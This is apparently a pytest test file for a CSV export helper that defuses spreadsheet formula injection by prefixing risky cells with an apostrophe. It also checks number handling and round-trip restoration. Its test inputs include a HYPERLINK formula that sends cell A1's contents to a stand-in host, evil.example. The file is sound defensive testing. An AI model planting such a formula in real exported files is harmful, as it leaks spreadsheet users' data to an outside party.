"""CSV cells a spreadsheet would run as a formula are neutralised; numbers stay numbers; and no
module writes CSV but common/csv_export.py."""

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.csv_export import frame_csv, restore_cell, rows_csv, safe_cell
from tests.support.layers import PROJECT_PACKAGES

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1", "-2+3", "@SUM(A1)",
            "\tcmd", "\rcmd"]  # fmt: skip


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(formula):
    assert safe_cell(formula) == "'" + formula
    assert cells(rows_csv([[formula]], header=["feedback"]))[1] == ["'" + formula]


def test_ordinary_text_and_text_with_a_formula_character_inside_are_unchanged():
    for text in ("Booked without asking", "score 3 = fine", "a-b", "", "'tis fine"):
        assert safe_cell(text) == text


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text():
    header = ["diff", "n", "share", "flag", "missing", "typed"]
    row = [-0.5, -2, 0.25, True, None, "-2"]
    assert cells(rows_csv([row], header=header))[1] == ["-0.5", "-2", "0.25", "True", "", "'-2"]
    mixed = [np.float64(-0.75), "-0.10 [-0.30, 0.10]"]
    frame = pd.DataFrame({"diff": [-0.5, np.nan], "mixed": mixed})
    assert cells(frame_csv(frame))[1:] == [["-0.5", "-0.75"], ["", "'-0.10 [-0.30, 0.10]"]]


def test_a_float_format_applies_to_numbers_only():
    frame = pd.DataFrame({"value": ["=cmd"], "difference": [-0.0125]})
    assert cells(frame_csv(frame, float_format="%.6f"))[1] == ["'=cmd", "-0.012500"]


def test_column_names_are_neutralised_too():
    assert cells(frame_csv(pd.DataFrame({"=x": [1]})))[0] == ["'=x"]


@given(st.text())
def test_restoring_gives_back_exactly_the_text_that_was_written(text):
    assert restore_cell(safe_cell(text)) == text


# Everything that writes CSV text by itself (the csv module's writers, pandas' to_csv).
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(")
HELPER = Path("common/csv_export.py")


def test_no_module_writes_csv_but_the_csv_export_helper():
    sources = [
        path.relative_to(ROOT)
        for folder in (*PROJECT_PACKAGES, "bench")
        for path in (ROOT / folder).rglob("*.py")
    ]
    writing = [path for path in sources if WRITERS.search((ROOT / path).read_text())]
    assert len(sources) > 100 and writing == [HELPER]
